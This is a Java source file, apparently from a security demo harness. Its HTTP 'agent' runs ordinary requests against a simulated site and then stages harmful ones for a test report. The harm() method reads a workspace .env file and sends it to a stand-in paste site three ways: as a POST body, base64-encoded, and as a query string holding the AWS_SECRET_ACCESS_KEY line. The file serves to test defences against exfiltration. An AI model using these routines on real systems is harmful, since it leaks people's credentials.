package dev.armor.demo.http;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.armor.demo.report.Report;
import dev.armor.demo.scene.AgentProgram;
import dev.armor.demo.scene.Scene;
import dev.armor.demo.scene.Site;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.Proxy;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.concurrent.ExecutionException;

/** Calls web services with {@code java.net.http} and with {@code HttpURLConnection}. */
public final class HttpAgent implements AgentProgram {
  private static final Duration PATIENCE = Duration.ofSeconds(10);

  private final HttpClient client =
      HttpClient.newBuilder().proxy(HttpClient.Builder.NO_PROXY).connectTimeout(PATIENCE).build();

  @Override
  public String name() {
    return "http";
  }

  @Override
  public String title() {
    return "HTTP agent: java.net.http and HttpURLConnection";
  }

  @Override
  public void run(Scene scene, Report report) {
    work(scene.web(), report);
    harm(scene, report);
  }

  private void work(Site web, Report report) {
    report.ordinary("GET /docs/build", () -> get(web.at("/docs/build")));
    report.ordinary(
        "GET /api/orders with HttpURLConnection",
        () -> {
          HttpURLConnection connection = open(web.at("/api/orders"));
          connection.getInputStream().readAllBytes();
        });
    report.ordinary(
        "POST /api/orders",
        () -> {
          post(web.at("/api/orders"), "{\"id\":3,\"item\":\"bread\"}");
          if (!web.received("/api/orders", "bread")) {
            throw new IOException("the order did not arrive");
          }
        });
  }

  private void harm(Scene scene, Report report) {
    Site paste = scene.paste();
    Path dotenv = scene.workspace().resolve(".env");
    String secret = scene.secrets().secretKey();
    report.harmful(
        "POST .env to a paste site",
        () -> post(paste.at("/paste"), Files.readString(dotenv)),
        () -> paste.received("/paste", secret));
    report.harmful(
        "POST .env in base64 with HttpURLConnection",
        () -> upload(paste.at("/upload"), Base64.getEncoder().encode(Files.readAllBytes(dotenv))),
        () -> paste.received("/upload", inBase64(scene.secrets().dotenv())));
    report.harmful(
        "GET /collect?d=<a key from .env>, async",
        () -> {
          String query = "/collect?d=" + URLEncoder.encode(keyIn(dotenv), UTF_8);
          getAsync(paste.at(query));
        },
        () -> paste.received("/collect", secret));
  }

  private String get(URI address) throws IOException, InterruptedException {
    HttpRequest request = HttpRequest.newBuilder(address).timeout(PATIENCE).build();
    return client.send(request, BodyHandlers.ofString()).body();
  }

  private void getAsync(URI address) throws InterruptedException, ExecutionException {
    HttpRequest request = HttpRequest.newBuilder(address).timeout(PATIENCE).build();
    client.sendAsync(request, BodyHandlers.discarding()).get();
  }

  private void post(URI address, String body) throws IOException, InterruptedException {
    HttpRequest request =
        HttpRequest.newBuilder(address)
            .timeout(PATIENCE)
            .POST(BodyPublishers.ofString(body))
            .build();
    client.send(request, BodyHandlers.discarding());
  }

  private static void upload(URI address, byte[] body) throws IOException {
    HttpURLConnection connection = open(address);
    connection.setRequestMethod("POST");
    connection.setDoOutput(true);
    try (OutputStream out = connection.getOutputStream()) {
      out.write(body);
    }
    connection.getInputStream().readAllBytes();
  }

  private static HttpURLConnection open(URI address) throws IOException {
    HttpURLConnection connection =
        (HttpURLConnection) address.toURL().openConnection(Proxy.NO_PROXY);
    connection.setConnectTimeout((int) PATIENCE.toMillis());
    connection.setReadTimeout((int) PATIENCE.toMillis());
    return connection;
  }

  private static String inBase64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(UTF_8));
  }

  private static String keyIn(Path dotenv) throws IOException {
    return Files.readAllLines(dotenv).stream()
        .filter(line -> line.startsWith("AWS_SECRET_ACCESS_KEY="))
        .findFirst()
        .orElseThrow(() -> new IOException("no key in .env"));
  }
}
